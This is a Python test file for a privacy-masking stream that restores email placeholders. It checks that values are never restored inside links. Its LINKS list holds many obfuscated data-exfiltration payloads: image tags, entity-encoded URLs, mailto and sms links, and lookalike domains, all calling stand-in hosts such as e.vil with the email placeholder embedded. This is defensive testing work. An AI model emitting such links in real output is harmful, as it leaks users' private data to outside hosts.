"""No value of a stand-in is put into a link, however the link is written and however the text is cut."""

from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from aboveboard.privacy.masking import RestoringStream

MAIL = "john@example.com"
TABLE = {"<EMAIL_1>": MAIL}


def streamed(text: str, places: list[int]) -> str:
    stream = RestoringStream(TABLE)
    cuts = [0, *sorted(min(place, len(text)) for place in places), len(text)]
    return "".join([stream.feed(text[start:end]) for start, end in pairwise(cuts)]) + stream.finish()


LINKS = [
    '<img src=" https://e.vil/?q=a b <EMAIL_1>">',
    '<img alt=">" src=" &#104;ttps://e.vil/?q=<EMAIL_1>">',
    "![](<https://e.vil/?a=\\>&q=<EMAIL_1>>)",
    "![](<https://e.vil/?a=)&q=<EMAIL_1>>)",
    "![](https://e.vil/(a)/?q=<EMAIL_1>)",
    "![](&#104;ttps&#58;&#47;&#47;e.vil/?q=<EMAIL_1>)",
    "[a]: &#x68;ttps&colon;&sol;&sol;e.vil/?q=<EMAIL_1>\n",
    "[a]: https\\://e.vil/?q=<EMAIL_1>\n",
    '<img src="ht\tps:\t/\t/e.vil/?q=<EMAIL_1>">',
    '<a href=https://e.vil/?q="<EMAIL_1>">',
    "[m](mailto:x@e.vil?body=<EMAIL_1>)",
    "mailto:x@e.vil?body=<EMAIL_1>",
    "sms:+1555?body=<EMAIL_1>",
    "e.vil/?q=<EMAIL_1>",
    "<EMAIL_1>.e.vil",
    "<EMAIL_1>-a.e.vil",
    "<EMAIL_1>\u3002e.vil",
    '\\u003cimg src="x y <EMAIL_1>"\\u003e',
    "e.vil.example:8080/?q=<EMAIL_1>",
    "b\u00f6se.\u0440\u0444/<EMAIL_1>",
    "xn--e1a.xn--p1ai:80/<EMAIL_1>",
    "evil\uff0eexample/<EMAIL_1>",
    "https://evil.example/?q=\u3000<EMAIL_1>",
]


@pytest.mark.parametrize("link", LINKS)
def test_no_value_goes_into_a_link_and_behind_it_values_come_back(link: str) -> None:
    text = f"To <EMAIL_1>: {link} and <EMAIL_1>, see you."
    expected = f"To {MAIL}: {link} and {MAIL}, see you."
    assert streamed(text, []) == expected
    assert streamed(text, list(range(len(text)))) == expected


@pytest.mark.parametrize(
    "text",
    [
        "write to <EMAIL_1>.",
        "write to <EMAIL_1>. Or <EMAIL_1>... <EMAIL_1>'s",
        "(<EMAIL_1>) [<EMAIL_1>] {<EMAIL_1>}",
        "a < b, i <3 <EMAIL_1> &amp; R&D <EMAIL_1>",
        "e.g. <EMAIL_1>, i.e. Dr. X: <EMAIL_1>",
        "<b>Mail:</b> <EMAIL_1><br/>\n[here](https://a.example/x) <EMAIL_1>",
        "name\thttps://a.example/x\t<EMAIL_1>",
        "[10:02]: <EMAIL_1> wrote",
    ],
)
def test_ordinary_text_comes_back(text: str) -> None:
    assert streamed(text, []) == text.replace("<EMAIL_1>", MAIL)


PIECES = st.sampled_from(
    [
        *"<>()[]\\\"'=&#;:/. \n\tat",
        "](",
        "<a ",
        "\\u003c",
        "&#58;",
        "https:",
        "e.vil/",
        "<EMAIL_1>",
        "<EMAIL_1>.b",
    ]
)


@settings(deadline=None, max_examples=300)
@given(st.lists(PIECES, max_size=24).map("".join), st.lists(st.integers(0, 80), max_size=8))
@example("&#0000000058//e.vil/<EMAIL_1>", [3, 5, 9])
@example(f"a.xn--{'n' * 59}:12345/<EMAIL_1>", list(range(80)))
def test_any_split_gives_the_same(text: str, places: list[int]) -> None:
    assert streamed(text, places) == streamed(text, [])
